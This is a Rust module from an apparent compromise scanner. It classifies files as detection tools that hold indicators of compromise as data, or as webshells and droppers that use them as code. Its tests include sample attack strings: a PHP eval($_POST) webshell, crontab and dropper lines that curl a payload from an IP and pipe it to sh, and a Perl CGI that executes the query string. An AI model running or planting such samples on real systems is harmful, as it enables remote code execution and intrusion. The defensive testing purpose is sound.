//! Detection-tool recognition: does a file hold indicators as *data* (an IOC scanner, its
//! report, a YARA or indicator list) or as *code* (a webshell, a dropper, a tunneller)?
//!
//! The indicators are literal strings: those of the rules in force (their literal content and
//! line patterns, and the plain paths of their file rules), or a list a rule gives. A file holds
//! them as data when it holds many distinct ones from several rules, nearly every one of them
//! only where data sits — inside a quoted string, in a list with other indicators, in a comment,
//! on a report or list line of its own — and it has no PHP or Perl CGI code outside quotes. A
//! webshell with one or two indicators, or a dropper that uses five of them as commands, is not.
//!
//! Names are never looked at. Work is bounded: the file's first bytes only (the rule's cap), at
//! most `MAX_OCCURRENCES` occurrences of each indicator.

use crate::model::Severity;
use crate::rules::{Matcher, Rule};
use regex::bytes::{Regex, RegexSet, RegexSetBuilder};
use std::sync::OnceLock;

/// Occurrences of one indicator examined per file.
const MAX_OCCURRENCES: usize = 16;
/// Bytes on each side of an occurrence taken as its line: a line longer than this (minified
/// code, a binary) is judged by the part around the occurrence.
const LINE_WINDOW: usize = 2048;
/// Neighbouring occurrences looked at for overlaps and lists.
const NEIGHBOURS: usize = 16;
/// Shortest literal that counts as an indicator.
const MIN_LEN: usize = 6;
/// Share of distinct indicators that must sit only in data for a file to hold them as data.
const DATA_SHARE: (usize, usize) = (3, 4);

/// A set of indicator strings and the rules each comes from.
#[derive(Debug)]
pub(crate) struct Indicators {
    lits: Vec<Vec<u8>>,
    /// Per indicator: the rules (indices) that name it; empty for a rule-given list.
    owners: Vec<Vec<usize>>,
    set: Option<RegexSet>,
}

/// What a file holds.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Assessment {
    /// Distinct indicators found.
    pub(crate) distinct: usize,
    /// Rules they come from.
    pub(crate) rules: usize,
    /// Distinct indicators found only in data contexts.
    pub(crate) as_data: usize,
    /// Code that runs on the web server or as a CGI (PHP tag, Perl CGI), outside quotes.
    pub(crate) code: Option<&'static str>,
    /// Line number and text of the first occurrence.
    pub(crate) first: Option<(u64, Vec<u8>)>,
}

/// How many indicators make a detection tool.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Thresholds {
    pub(crate) min: usize,
    pub(crate) min_rules: usize,
}

impl Assessment {
    /// True when the file holds its indicators as data (a detection tool or its output).
    pub(crate) fn is_tool(&self, t: Thresholds) -> bool {
        self.code.is_none()
            && self.distinct >= t.min
            && self.rules >= t.min_rules
            && self.as_data * DATA_SHARE.1 >= self.distinct * DATA_SHARE.0
    }

    /// Why the file does, or does not, look like a detection tool.
    pub(crate) fn describe(&self, t: Thresholds) -> String {
        let counts = format!(
            "{} distinct indicators of {} rules, {} of them only as data (quoted, listed, commented, or on report lines)",
            self.distinct, self.rules, self.as_data
        );
        if self.is_tool(t) {
            return format!("looks like a detection tool or its output: {counts}");
        }
        let why = match self.code {
            Some(c) => format!("it holds {c} outside quotes"),
            None if self.distinct < t.min => format!("fewer than {} indicators", t.min),
            None if self.rules < t.min_rules => format!("from fewer than {} rules", t.min_rules),
            None => "its indicators are used as code".to_owned(),
        };
        format!("not a detection tool ({why}): {counts}")
    }
}

fn plain_path(glob: &str) -> Option<String> {
    (!glob.bytes().any(|b| b"*?[]{}\\".contains(&b))).then(|| format!("/{glob}"))
}

impl Indicators {
    /// The literal indicators of `rules` with severity medium or above: literal content and
    /// line patterns, and the plain paths of file rules.
    pub fn from_rules(rules: &[Rule]) -> Indicators {
        let mut found: Vec<(Vec<u8>, usize)> = Vec::new();
        for (i, r) in rules.iter().enumerate() {
            if r.severity < Severity::Medium {
                continue;
            }
            let (pats, paths) = match &r.matcher {
                Matcher::File(f) => (Some(&f.content), f.paths.as_slice()),
                Matcher::Lines(l) => (Some(&l.patterns), &[][..]),
                Matcher::Correlate(_) | Matcher::Timeline(_) => (None, &[][..]),
            };
            let lits = pats
                .into_iter()
                .flat_map(|p| p.any.iter().chain(&p.all))
                .filter(|p| !p.is_regex && !p.ignore_case)
                .map(|p| p.source.clone());
            for l in lits.chain(paths.iter().filter_map(|g| plain_path(g))) {
                if l.len() >= MIN_LEN {
                    found.push((l.into_bytes(), i));
                }
            }
        }
        found.sort();
        let mut lits: Vec<Vec<u8>> = Vec::new();
        let mut owners: Vec<Vec<usize>> = Vec::new();
        for (l, r) in found {
            if lits.last() == Some(&l) {
                let o = owners.last_mut().expect("owners follow lits");
                if !o.contains(&r) {
                    o.push(r);
                }
            } else {
                lits.push(l);
                owners.push(vec![r]);
            }
        }
        Self::build(lits, owners)
    }

    /// A rule-given list: every indicator counts as its own source.
    pub(crate) fn from_list(list: &[String]) -> Indicators {
        let mut lits: Vec<Vec<u8>> = list.iter().map(|s| s.as_bytes().to_vec()).collect();
        lits.sort();
        lits.dedup();
        let owners = (0..lits.len()).map(|i| vec![i]).collect();
        Self::build(lits, owners)
    }

    fn build(lits: Vec<Vec<u8>>, owners: Vec<Vec<usize>>) -> Indicators {
        let escaped: Vec<String> = lits
            .iter()
            .map(|l| regex::escape(&String::from_utf8_lossy(l)))
            .collect();
        let set = RegexSetBuilder::new(&escaped)
            .unicode(false)
            .size_limit(64 << 20)
            .dfa_size_limit(16 << 20)
            .build()
            .ok();
        Indicators { lits, owners, set }
    }

    /// What `hay` holds.
    pub(crate) fn assess(&self, hay: &[u8]) -> Assessment {
        let present: Vec<usize> = match &self.set {
            Some(set) => set.matches(hay).into_iter().collect(),
            None => (0..self.lits.len())
                .filter(|&i| memchr::memmem::find(hay, &self.lits[i]).is_some())
                .collect(),
        };
        let script = hay.starts_with(b"#!");
        // Every occurrence (indicator, start, end), in file order.
        let mut occ: Vec<(usize, usize, usize)> = Vec::new();
        for &i in &present {
            let lit = &self.lits[i];
            for s in memchr::memmem::find_iter(hay, lit).take(MAX_OCCURRENCES) {
                occ.push((i, s, s + lit.len()));
            }
        }
        occ.sort_by_key(|o| (o.1, o.2));
        let mut only_data = vec![true; self.lits.len()];
        for (k, &(i, s, e)) in occ.iter().enumerate() {
            if !in_data(hay, &occ, k, s, e, script) {
                only_data[i] = false;
            }
        }
        let mut rules: Vec<usize> = present
            .iter()
            .flat_map(|&i| self.owners[i].iter().copied())
            .collect();
        rules.sort_unstable();
        rules.dedup();
        Assessment {
            distinct: present.len(),
            rules: rules.len(),
            as_data: present.iter().filter(|&&i| only_data[i]).count(),
            code: server_code(hay),
            first: occ.first().map(|&(_, s, _)| line_at(hay, s)),
        }
    }
}

/// The line around byte `at`, at most [`LINE_WINDOW`] bytes on each side: its bounds.
fn line_bounds(hay: &[u8], at: usize) -> (usize, usize) {
    let lo = at.saturating_sub(LINE_WINDOW);
    let hi = at.saturating_add(LINE_WINDOW).min(hay.len());
    let start = memchr::memrchr(b'\n', &hay[lo..at]).map_or(lo, |i| lo + i + 1);
    let end = memchr::memchr(b'\n', &hay[at..hi]).map_or(hi, |i| at + i);
    (start, end)
}

fn line_at(hay: &[u8], at: usize) -> (u64, Vec<u8>) {
    let (start, end) = line_bounds(hay, at);
    let no = memchr::memchr_iter(b'\n', &hay[..at]).count() as u64 + 1;
    let text = &hay[start..end];
    (no, crate::util::bytes::excerpt(text, at - start))
}

/// True when `pos` on its line sits inside a single- or double-quoted string.
fn quoted(line: &[u8], pos: usize) -> bool {
    let (mut single, mut double, mut esc) = (false, false, false);
    for &b in &line[..pos] {
        match b {
            _ if esc => esc = false,
            b'\\' => esc = true,
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            _ => {}
        }
    }
    single || double
}

fn comment_line(line: &[u8]) -> bool {
    let t = line.trim_ascii_start();
    [&b"#"[..], b"//", b"/*", b"--", b";", b"<!--"]
        .iter()
        .any(|p| t.starts_with(p))
}

/// A YARA string definition (`$a1 = "..."`) or a YAML or Markdown list item (`- x`).
fn definition_line(line: &[u8]) -> bool {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"(?-u)^\s*(?:\$\w*\s*=|-\s)").expect("static regex"))
        .is_match(line)
}

/// Is the occurrence `k` (bytes `s..e`) held as data?
fn in_data(
    hay: &[u8],
    occ: &[(usize, usize, usize)],
    k: usize,
    s: usize,
    e: usize,
    script: bool,
) -> bool {
    let (ls, le) = line_bounds(hay, s);
    let line = &hay[ls..le];
    if comment_line(line) || definition_line(line) || quoted(line, s - ls) {
        return true;
    }
    // Indicators inside one another ("netscalerd" in "/var/tmp/netscalerd") are one spot.
    let near = &occ[k.saturating_sub(NEIGHBOURS)..(k + NEIGHBOURS + 1).min(occ.len())];
    let (s, e) = near
        .iter()
        .filter(|o| o.1 < e && o.2 > s)
        .fold((s, e), |(a, b), o| (a.min(o.1), b.max(o.2)));
    // In a list: another indicator right before or after it, only separators between.
    let sep = |gap: &[u8]| !gap.is_empty() && gap.iter().all(|b| b" \t,'\"".contains(b));
    let before = near
        .iter()
        .rev()
        .find(|o| o.2 <= s)
        .is_some_and(|o| o.2 >= ls && sep(&hay[o.2..s]));
    let after = near
        .iter()
        .find(|o| o.1 >= e)
        .is_some_and(|o| o.1 <= le && sep(&hay[e..o.1]));
    if before || after {
        return true;
    }
    // A report or list line: the indicator and at most a short label ("absent", "FOUND:").
    // In a script a line is a command, so this does not apply there.
    let rest: Vec<u8> = line[..s - ls]
        .iter()
        .chain(&line[(e - ls).min(line.len())..])
        .copied()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    !script
        && rest.len() <= 24
        && rest
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || b"_:.#-".contains(b))
}

/// PHP or Perl CGI code outside quotes and comments: the file runs on the web server.
fn server_code(hay: &[u8]) -> Option<&'static str> {
    static RE: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
    let markers = RE.get_or_init(|| {
        [
            (r"<\?(?:php|=)", "a PHP open tag"),
            (r"\buse\s+CGI\b|\bnew\s+CGI\b|\bCGI->new\b", "Perl CGI code"),
            (r"\$ENV\{\s*'?QUERY_STRING|%FORM\b", "Perl CGI code"),
        ]
        .into_iter()
        .map(|(p, what)| {
            (
                Regex::new(&format!("(?-u){p}")).expect("static regex"),
                what,
            )
        })
        .collect()
    });
    for (re, what) in markers {
        for m in re.find_iter(hay).take(MAX_OCCURRENCES) {
            let (ls, le) = line_bounds(hay, m.start());
            let line = &hay[ls..le];
            if !comment_line(line) && !definition_line(line) && !quoted(line, m.start() - ls) {
                return Some(what);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    const T: Thresholds = Thresholds {
        min: 5,
        min_rules: 2,
    };

    fn list() -> Indicators {
        let l: Vec<String> = [
            "eval($_POST",
            "#nssecret#",
            "blv_encode",
            "/tmp/.init/httpd",
            "/var/tmp/netscalerd",
            "185.178.45.221",
            "/wp-content/uploads/",
            "ligolo-ng",
            "template.new",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        Indicators::from_list(&l)
    }

    #[test]
    fn a_scanner_holds_its_indicators_as_data() {
        let scanner = br#"#!/bin/sh
declare -a content=( 'eval($_POST' '#nssecret#' 'blv_encode' 'ligolo-ng' )
for f in /tmp/.init/httpd /var/tmp/netscalerd; do [ -e "$f" ] && echo "FOUND $f"; done
zgrep -F -e '185.178.45.221' /var/log/bash.log*
"#;
        let a = list().assess(scanner);
        assert!(a.is_tool(T), "{a:?}");
        let report = b"checking content: eval($_POST #nssecret# blv_encode: none\nabsent /tmp/.init/httpd\nabsent /var/tmp/netscalerd\n";
        assert!(list().assess(report).is_tool(T));
        let yara = b"rule x {\n strings:\n  $a = \"eval($_POST\"\n  $b = \"#nssecret#\"\n  $c = \"<?php\"\n  $d = \"blv_encode\"\n  $e = \"ligolo-ng\"\n  $f = \"template.new\"\n condition: any of them }\n";
        assert!(list().assess(yara).is_tool(T));
    }

    #[test]
    fn a_webshell_or_dropper_is_not_a_tool() {
        let php = b"<?php http_response_code(201); @eval($_POST[5]); ?>";
        assert!(!list().assess(php).is_tool(T));
        // Padded with a quoted indicator list, PHP code still runs on the web server.
        let padded = b"<?php $x = ['eval($_POST', '#nssecret#', 'blv_encode', 'ligolo-ng', 'template.new']; eval($_POST['c']); ?>";
        let a = list().assess(padded);
        assert_eq!(a.code, Some("a PHP open tag"));
        assert!(!a.is_tool(T));
        let crontab = b"* * * * * /var/tmp/netscalerd\n* * * * * curl http://185.178.45.221/ci.sh | sh\n* * * * * /tmp/.init/httpd\n*/5 * * * * curl -s https://185.178.45.221/wp-content/uploads/x | sh\n";
        let a = list().assess(crontab);
        assert!(a.distinct >= 4 && a.as_data == 0, "{a:?}");
        let dropper = b"#!/bin/sh\npkill -9 netscalerd; rm /var/tmp/netscalerd\ncurl -k https://185.178.45.221/wp-content/uploads/x -o /tmp/.init/httpd\nchmod 744 /tmp/.init/httpd; /tmp/.init/httpd &\n";
        let a = list().assess(dropper);
        assert!(
            a.distinct >= 4
                && !a.is_tool(Thresholds {
                    min: 4,
                    min_rules: 2
                }),
            "{a:?}"
        );
        let cgi = b"#!/usr/bin/perl\nuse CGI; my $q = CGI->new; print `$ENV{QUERY_STRING}`; # eval($_POST #nssecret# blv_encode ligolo-ng template.new\n";
        assert!(!list().assess(cgi).is_tool(T));
    }

    #[test]
    fn work_is_bounded_on_a_file_made_of_indicators() {
        let mut hay = Vec::new();
        while hay.len() < 1 << 20 {
            hay.extend_from_slice(b"eval($_POST#nssecret#blv_encode/tmp/.init/httpd");
        }
        let started = std::time::Instant::now();
        let a = list().assess(&hay);
        assert_eq!(a.distinct, 4);
        assert!(started.elapsed() < std::time::Duration::from_secs(5));
    }

    #[test]
    fn quotes_and_escapes() {
        assert!(quoted(br#"x = "a b"#, 6));
        assert!(!quoted(br#"x = "a" b"#, 8));
        assert!(!quoted(br#"x = \"a b"#, 7));
        assert!(quoted(br#"grep -e 'eval($_POST'"#, 10));
    }
}
